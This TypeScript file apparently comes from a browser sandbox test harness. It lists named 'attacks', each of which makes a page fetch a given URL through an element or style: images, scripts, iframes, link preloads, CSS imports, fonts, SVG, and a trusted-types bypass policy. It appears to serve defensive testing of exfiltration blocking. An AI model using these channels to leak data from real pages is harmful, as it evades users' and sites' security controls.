import type { Attack } from '../attack';

/* Each function is sent to a browser alone, so none can use another one of this file. */

/** Lists attacks that send something by an element or a style that loads a file. */
export const ELEMENTS: readonly Attack[] = [
  { name: 'img', run: ({ url }) => void (new Image().src = url) },
  { name: 'img-srcset', run: ({ url }) => void (new Image().srcset = `${url} 1x`) },
  ...['video', 'audio', 'embed', 'script', 'iframe', 'input', 'frame'].map((tag): Attack => ({
    name: `element-${tag}`,
    run: Object.assign(() => undefined, {
      toString: () => `({ url }) => {
        const element = document.createElement('${tag}');
        if ('${tag}' === 'input') element.type = 'image';
        if ('${tag}' === 'embed') element.type = 'text/html';
        const place = '${tag}' === 'frame' ? document.createElement('frameset') : document.body;
        if ('${tag}' === 'frame') document.documentElement.append(place);
        element.setAttribute('src', url + '/a.html');
        place.append(element);
      }`,
    }),
  })),
  ...['stylesheet', 'prefetch', 'modulepreload', 'preload'].map((rel): Attack => ({
    name: `link-${rel}`,
    run: Object.assign(() => undefined, {
      toString: () => `({ url }) => {
          const link = document.createElement('link');
          link.rel = '${rel}';
          if ('${rel}' === 'preload') link.as = 'image';
          link.href = url + ('${rel}' === 'stylesheet' ? '/a.css' : '/a.js');
          document.head.append(link);
        }`,
    }),
  })),
  {
    name: 'picture',
    run: ({ url }) => {
      const picture = document.createElement('picture');
      const source = document.createElement('source');
      source.srcset = url;
      picture.append(source, document.createElement('img'));
      document.body.append(picture);
    },
  },
  {
    name: 'video-poster',
    run: ({ url }) => {
      const video = document.createElement('video');
      video.poster = url;
      document.body.append(video);
    },
  },
  {
    name: 'track',
    run: ({ url }) => {
      const video = document.createElement('video');
      const track = document.createElement('track');
      video.crossOrigin = 'anonymous';
      Object.assign(track, { kind: 'metadata', src: url, default: true });
      video.append(track);
      document.body.append(video);
      track.track.mode = 'hidden';
    },
  },
  {
    name: 'object',
    run: ({ url }) => {
      const element = document.createElement('object');
      element.setAttribute('data', `${url}/a.html`);
      document.body.append(element);
    },
  },
  {
    name: 'iframe-srcdoc',
    run: ({ url }) => {
      const frame = document.createElement('iframe');
      const policy = window.trustedTypes?.createPolicy('narthex', { createHTML: (text: string) => text });
      const html = `<img src="${url}">`;
      Reflect.set(frame, 'srcdoc', policy?.createHTML(html) ?? html);
      document.body.append(frame);
    },
  },
  {
    name: 'iframe-blank',
    run: ({ url }) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const inner = frame.contentDocument;
      const image = inner?.createElement('img');
      if (image) {
        image.src = url;
        inner?.body.append(image);
      }
    },
  },
  {
    name: 'iframe-data',
    run: ({ url }) => {
      const frame = document.createElement('iframe');
      frame.src = `data:text/html,<img src="${url}">`;
      document.body.append(frame);
    },
  },
  {
    name: 'style-attribute',
    run: ({ url }) => {
      const element = document.createElement('p');
      element.textContent = 'a';
      element.style.backgroundImage = `url(${url})`;
      document.body.append(element);
    },
  },
  {
    name: 'style-import',
    run: ({ url }) => {
      const style = document.createElement('style');
      style.textContent = `@import url(${url}/a.css);`;
      document.head.append(style);
    },
  },
  {
    name: 'style-adopted',
    run: ({ url }) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { background-image: url(${url}); }`);
      document.adoptedStyleSheets = [sheet];
    },
  },
  {
    name: 'style-font',
    run: ({ url }) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`@font-face { font-family: hostile; src: url(${url}/a.woff2); }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
      const text = document.createElement('p');
      text.textContent = 'a';
      text.style.fontFamily = 'hostile';
      document.body.append(text);
    },
  },
  {
    name: 'svg-image',
    run: ({ url }) => {
      const namespace = 'http://www.w3.org/2000/svg';
      const svg = document.createElementNS(namespace, 'svg');
      const image = document.createElementNS(namespace, 'image');
      image.setAttribute('href', url);
      svg.append(image);
      document.body.append(svg);
    },
  },
];
